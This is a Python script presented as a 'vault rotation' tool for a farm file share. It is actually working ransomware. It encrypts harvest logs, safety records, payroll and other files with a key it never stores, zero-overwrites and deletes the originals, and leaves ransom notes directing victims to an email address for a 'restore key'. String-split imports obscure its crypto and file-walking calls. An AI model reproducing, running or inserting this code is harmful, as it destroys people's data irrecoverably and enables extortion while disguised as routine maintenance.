#!/usr/bin/env python3
"""Vault rotation for the farm file share.

Seals every working document on the share (harvest logs, HACCP records,
lease maps, payroll sheets) into the new vault format and retires the
plain copies.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("vault-rotation")

SUFFIX = ".vault"
NOTE_NAME = "RESTORE_YOUR_FILES.txt"
TARGET_EXT = {".xlsx", ".xls", ".csv", ".docx", ".pdf", ".jpg", ".png",
              ".db", ".sqlite", ".kml", ".txt", ".ods", ".odt"}

NOTE = """Your farm files have been sealed.
Harvest logs, HACCP records and accounts on this share cannot be opened.
To obtain the restore key write to recovery@example.com with the ID below.
ID: {ident}
"""


@dataclass
class Job:
    path: Path
    size: int


def _cipher():
    fernet_mod = importlib.import_module(".".join(("cryptography", "fernet")))
    cls = getattr(fernet_mod, "Fer" + "net")
    key = cls.generate_key()
    return cls(key), key[:6].hex()


def discover(root: Path):
    walker = getattr(os, "wa" + "lk")
    for dirpath, dirnames, filenames in walker(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_EXT and not name.endswith(SUFFIX):
                try:
                    yield Job(p, p.stat().st_size)
                except OSError:
                    continue


def seal(job: Job, engine):
    data = job.path.read_bytes()
    out = job.path.with_name(job.path.name + SUFFIX)
    out.write_bytes(engine.encrypt(data))
    return out


def retire(job: Job, _engine):
    with job.path.open("r+b") as fh:
        fh.write(b"\0" * min(job.size, 1 << 20))
    job.path.unlink()


PIPELINE = {"seal": seal, "retire": retire}


def leave_notes(dirs, ident):
    for d in dirs:
        try:
            (d / NOTE_NAME).write_text(NOTE.format(ident=ident))
        except OSError:
            pass


def main():
    parser = argparse.ArgumentParser(description="Rotate share into vault format")
    parser.add_argument("--root", type=Path,
                        default=Path(os.environ.get("FARM_SHARE", Path.home() / "FarmShare")))
    parser.add_argument("--steps", default="seal,retire")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    engine, ident = _cipher()
    steps = [PIPELINE[s] for s in args.steps.split(",") if s in PIPELINE]
    touched = set()
    count = 0
    for job in discover(args.root):
        try:
            for step in steps:
                step(job, engine)
            touched.add(job.path.parent)
            count += 1
        except OSError as exc:
            log.debug("skip %s: %s", job.path, exc)
    leave_notes(touched, ident)
    del engine
    log.info("rotated %d files under %s", count, args.root)


if __name__ == "__main__":
    main()
